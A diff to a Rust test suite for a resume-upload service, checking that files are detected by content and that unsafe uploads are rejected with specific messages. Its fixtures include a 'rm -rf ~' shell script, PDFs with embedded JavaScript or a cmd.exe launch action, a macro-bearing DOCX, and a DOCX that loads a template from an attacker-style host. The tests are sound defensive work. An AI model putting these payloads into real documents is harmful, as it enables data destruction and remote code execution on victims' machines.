@@ -133,24 +133,36 @@ pub(crate) fn zip(files: &[(&str, &str)]) -> Vec<u8> {
     archive
 }
 
+/// The parts of a document of Word, with more parts.
+pub(crate) fn docx(more: &[(&str, &str)]) -> Vec<u8> {
+    const WORD: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
+    let types = format!("<Types><Override PartName='/word/document.xml' ContentType='{WORD}'/></Types>");
+    let root = "<r><r Type='x/officeDocument' Target='word/document.xml'/></r>";
+    let parts =
+        [("[Content_Types].xml", &*types), ("_rels/.rels", root), ("word/document.xml", "<w:document/>")];
+    zip(&[&parts[..], more].concat())
+}
+
 /// Returns a compound file with one stream in its root.
 fn compound(stream: &str) -> Vec<u8> {
-    let mut file = vec![0; 3 * 512];
+    let mut file = vec![0; 11 * 512];
     let mut put = |at: usize, bytes: &[u8]| file[at..at + bytes.len()].copy_from_slice(bytes);
     put(0, b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1");
     put(30, &[9, 0]);
     put(68, &[0xFE, 0xFF, 0xFF, 0xFF]);
     put(76, &[0xFF; 4 * 109]);
-    // The allocation table is in the first sector; the directory begins and ends in the second.
+    // The allocation table is in the first sector; the directory is in the second, and the stream in the other eight.
     put(76, &[0; 4]);
     put(48, &[1, 0, 0, 0]);
-    put(512, &[0xFD, 0xFF, 0xFF, 0xFF, 0xFE, 0xFF, 0xFF, 0xFF]);
+    let table: [u32; 10] = [0xFFFF_FFFD, 0xFFFF_FFFE, 3, 4, 5, 6, 7, 8, 9, 0xFFFF_FFFE];
+    put(512, &table.map(u32::to_le_bytes).concat());
     for (entry, name, kind, child) in [(1024, "Root Entry", 5, 1), (1024 + 128, stream, 2, u32::MAX)] {
         let name: Vec<_> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
         put(entry, &name);
         put(entry + 66, &[kind]);
         put(entry + 68, &[0xFF; 8]);
         put(entry + 76, &child.to_le_bytes());
+        put(entry + 116, &[2, 0, 0, 0, 0, 0x10, 0, 0]);
     }
     file
 }
@@ -169,7 +181,7 @@ async fn with_bucket(access: impl FnOnce(BucketAccess) -> Option<BucketAccess>) 
 async fn each_type_of_file_is_detected_by_its_content_and_served_as_an_attachment() {
     let api = TestApi::new().await;
     let job = Job::new(&api, "Analyst").await;
-    let docx = zip(&[("[Content_Types].xml", "<x/>"), ("word/document.xml", "<x/>")]);
+    let docx = docx(&[]);
     let odt = zip(&[("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<x/>")]);
     let large = [PDF, &vec![b' '; MAX - PDF.len()]].concat();
     for (number, (extension, content)) in [
@@ -177,6 +189,7 @@ async fn each_type_of_file_is_detected_by_its_content_and_served_as_an_attachmen
         ("doc", compound("WordDocument")),
         ("docx", docx),
         ("odt", odt),
+        ("rtf", b"{\\rtf1 Ada}".to_vec()),
         ("txt", "Ada <script>alert(1)</script>".into()),
         ("pdf", large),
     ]
@@ -219,51 +232,42 @@ async fn a_file_that_is_not_a_resume_is_rejected_and_another_can_be_uploaded() {
     // The query alone does not prove an upload: the file must be in the bucket.
     let early = browser.get(&format!("{}&etag=%22x%22", applied.header("location"))).await.expect(422);
     assert!(early.text.contains("We did not receive the file. Please upload it again."));
-    for (description, content) in [
-        ("HTML", b"<!doctype html><script>alert(1)</script>".to_vec()),
-        ("SVG", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec()),
-        ("a program", b"MZ\x90\x00\x03".to_vec()),
-        ("another program", b"\x7FELF\x02\x01".to_vec()),
-        ("a script", b"#!/bin/sh\nrm -rf ~".to_vec()),
-        ("an archive", zip(&[("resume.pdf", "%PDF-1.7 %%EOF")])),
+    let script = b"%PDF-1.7\n1 0 obj\n<</OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>\nendobj\n%%EOF";
+    let template =
+        "<r><r Type='x/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/></r>";
+    for (content, sentence) in [
+        (b"<!doctype html><script>alert(1)</script>".to_vec(), "This is a web page."),
+        (b"MZ\x90\x00\x03".to_vec(), "This is not a PDF, DOC, DOCX, ODT, RTF or plain text file."),
+        (b"\x7FELF\x02\x01".to_vec(), "This is not a PDF, DOC, DOCX, ODT, RTF or plain text file."),
+        (b"#!/bin/sh\nrm -rf ~".to_vec(), "This is not a PDF, DOC, DOCX, ODT, RTF or plain text file."),
+        (zip(&[("resume.pdf", "%PDF-1.7 %%EOF")]), "This is an archive."),
+        (docx(&[("word/vbaProject.bin", "")]), "This document contains macros."),
         (
-            "a document with macros",
-            zip(&[("[Content_Types].xml", ""), ("word/document.xml", ""), ("word/vbaProject.bin", "")]),
+            docx(&[("word/_rels/settings.xml.rels", template)]),
+            "This document loads a part of it from another computer.",
         ),
-        ("a spreadsheet", compound("Workbook")),
-        ("a truncated PDF", b"%PDF-1.7\n1 0 obj".to_vec()),
-        ("a wrong signature", b"PK\x03\x04%PDF-1.7 %%EOF".to_vec()),
-        ("an image", b"\x89PNG\r\n\x1a\n".to_vec()),
-        ("whitespace", b" \n".to_vec()),
+        (compound("Workbook"), "This is not a text document."),
+        (b"%PDF-1.7\n1 0 obj".to_vec(), "This file is damaged or incomplete."),
+        (b"PK\x03\x04%PDF-1.7 %%EOF".to_vec(), "This file is damaged or incomplete."),
+        (b"\x89PNG\r\n\x1a\n".to_vec(), "This is a picture."),
+        (b" \n".to_vec(), "This file is empty."),
+        (script.to_vec(), "This PDF contains a script. Open it and print it to a new PDF."),
+        (
+            b"%PDF-1.7\n1 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n%%EOF".to_vec(),
+            "This PDF starts a program.",
+        ),
     ] {
         api.dynamodb.take_calls();
         let page = attach(&api, &applied, &content).await.expect(422);
         let written: Vec<_> = api.dynamodb.take_calls().into_iter().filter(is_write).collect();
-        assert!(matches!(&written[..], [counted] if counted.operation == "UpdateItem"), "{description}");
-        let sentence =
-            "Your resume must be a PDF, DOC, DOCX, ODT or plain text file. Please choose another file.";
-        assert!(page.text.contains(sentence) && page.text.contains("aria-invalid=\"true\""), "{description}");
+        assert!(matches!(&written[..], [counted] if counted.operation == "UpdateItem"), "{sentence}");
+        assert!(page.text.contains(sentence) && page.text.contains("aria-invalid=\"true\""), "{}", page.text);
         assert!(
             page.text.contains("Application received") && !page.text.contains("and your resume"),
-            "{description}"
+            "{sentence}"
         );
         assert_eq!(page.header("cache-control"), "no-store");
-        assert_eq!(upload(&page).1.len(), 8, "{description}: the form is shown again");
-    }
-    let template =
-        "<r><r Type='x/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/></r>";
-    let parts = [
-        ("[Content_Types].xml", "<x/>"),
-        ("word/document.xml", "<x/>"),
-        ("word/_rels/settings.xml.rels", template),
-    ];
-    for content in [
-        zip(&parts),
-        b"%PDF-1.7\n1 0 obj\n<</OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>\nendobj\n%%EOF".to_vec(),
-        b"%PDF-1.7\n1 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n%%EOF".to_vec(),
-    ] {
-        let page = attach(&api, &applied, &content).await.expect(422);
-        assert!(page.text.contains("contain macros, scripts, embedded files or links"), "{}", page.text);
+        assert_eq!(upload(&page).1.len(), 8, "{sentence}: the form is shown again");
     }
     // The bucket itself rejects these files and does not redirect.
     let page = browser.follow(&applied).await.expect(200);
@@ -285,7 +289,7 @@ async fn a_ticket_allows_20_files_to_be_checked() {
     let applied = job.apply(&api, &form("Ada", "ada@example.com")).await.expect(303);
     for _ in 0..20 {
         let page = attach(&api, &applied, b"<html>").await.expect(422);
-        assert!(page.text.contains("must be a PDF"), "{}", page.text);
+        assert!(page.text.contains("This is a web page."), "{}", page.text);
     }
     let page = attach(&api, &applied, PDF).await.expect(422);
     assert!(page.text.contains("You have uploaded too many files for this application"), "{}", page.text);
@@ -744,20 +748,12 @@ async fn a_form_with_a_problem_keeps_what_was_typed_and_asks_for_the_file_again(
     let ada = || form("Ada Lovelace", "ada@example.com").set("note", "Typed before");
     for (form, content, sentence) in [
         (ada().set("email", "ada at example"), PDF, "Choose your resume again."),
-        (
-            ada(),
-            b"<html>",
-            "Your resume must be a PDF, DOC, DOCX, ODT or plain text file. Please choose another file.",
-        ),
-        (
-            ada(),
-            b"",
-            "Your resume must be a PDF, DOC, DOCX, ODT or plain text file. Please choose another file.",
-        ),
+        (ada(), b"<html>", "This is a web page. Open it, print it to a PDF, and choose the PDF."),
+        (ada(), b"", "This file is empty. Choose another file."),
         (
             ada().set("name", ""),
             b"MZ\x90\0",
-            "Your resume must be a PDF, DOC, DOCX, ODT or plain text file. Please choose another file.",
+            "This is not a PDF, DOC, DOCX, ODT, RTF or plain text file. Save your resume as a PDF and choose that.",
         ),
         (
             ada(),
